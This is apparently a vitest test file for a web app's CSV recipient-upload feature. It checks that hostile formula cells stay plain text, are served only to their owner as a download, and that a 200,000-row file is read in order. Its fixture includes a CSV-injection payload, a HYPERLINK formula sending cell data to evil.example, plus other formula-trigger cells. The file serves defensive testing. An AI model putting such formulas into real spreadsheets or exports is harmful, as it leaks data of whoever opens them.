import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, type TestApp } from '../../../test/harness.js';
import { createTeamApp } from '../../../test/fixtures.js';
import { file, multipartBody } from '../../../test/multipart.js';
import { CERT_CSV_MSG } from '@eo/contract';
import { readRecipientsCsv } from '../certificates/publish/recipients-csv.js';

/**
 * Hostile CSV uploads: formula cells are data, never evaluated or rewritten, and the
 * file goes back to its owner only, as a download; a 200,000-row file is taken whole and read in
 * file order by the publishing job's reader.
 */
let t: TestApp;
let org1: string;
let org2: string;
beforeAll(async () => {
  ({ t, org1, org2 } = await createTeamApp());
});
afterAll(() => t.close());

async function uploadCsv(data: Buffer, name: string) {
  const { payload, headers } = multipartBody([{ name: 'docType', value: 'CSV' }, file(data, name, 'text/csv')]);
  const res = await call(t.app, { method: 'POST', url: '/v1/upload', payload, headers, token: org1 });
  expect(res.status).toBe(201);
  return res.body.data.url as string;
}
const download = (url: string, token: string) => t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });

describe('hostile CSV uploads', () => {
  it('formula cells are kept as text, served only to their owner as an attachment, and a formula is no email', async () => {
    const csv = Buffer.from([
      'Nama,Email',
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Klik"")",satu@contoh.id',
      '+SUM(1;2),dua@contoh.id',
      '@cmd,tiga@contoh.id',
      '-2+3,empat@contoh.id',
      'Lima,"=1+1"',
      '',
    ].join('\r\n'));
    const url = await uploadCsv(csv, 'rumus.csv');

    const mine = await download(url, org1);
    expect(mine.statusCode).toBe(200);
    expect(mine.rawPayload.equals(csv)).toBe(true);
    expect(mine.headers['content-disposition']).toMatch(/^attachment;/);
    expect(mine.headers['x-content-type-options']).toBe('nosniff');
    expect((await download(url, org2)).statusCode).toBe(404);

    const { recipients, problems } = readRecipientsCsv(mine.rawPayload, { name: 'Nama', email: 'Email' });
    // Formula-looking names stay text; the one holding a web address is refused (nothing typed becomes a link).
    expect(recipients.map((r) => r.name)).toEqual(['+SUM(1;2)', '@cmd', '-2+3']);
    expect(problems).toEqual([{ row: 2, reason: CERT_CSV_MSG.nameLink }, { row: 6, reason: 'Email tidak valid: =1+1' }]);
  });

  it('a 200,000-row file is stored whole and read in file order', async () => {
    const rows = 200_000;
    const lines = ['Nama;Email'];
    for (let i = 1; i <= rows; i++) lines.push(`Peserta Nomor ${i};peserta${i}@contoh.id`);
    const csv = Buffer.from(`\uFEFF${lines.join('\n')}\n`);
    expect(csv.length).toBeGreaterThan(8 * 1024 * 1024);
    const url = await uploadCsv(csv, 'besar.csv');

    const back = await download(url, org1);
    expect(back.statusCode).toBe(200);
    expect(Number(back.headers['content-length'])).toBe(csv.length);
    const { recipients, problems } = readRecipientsCsv(back.rawPayload, { name: 'nama', email: 'EMAIL' });
    expect(problems).toEqual([]);
    expect(recipients).toHaveLength(rows);
    expect(recipients[0]).toEqual({ row: 2, name: 'Peserta Nomor 1', email: 'peserta1@contoh.id' });
    expect(recipients[rows - 1]).toEqual({ row: rows + 1, name: `Peserta Nomor ${rows}`, email: `peserta${rows}@contoh.id` });
  });
});
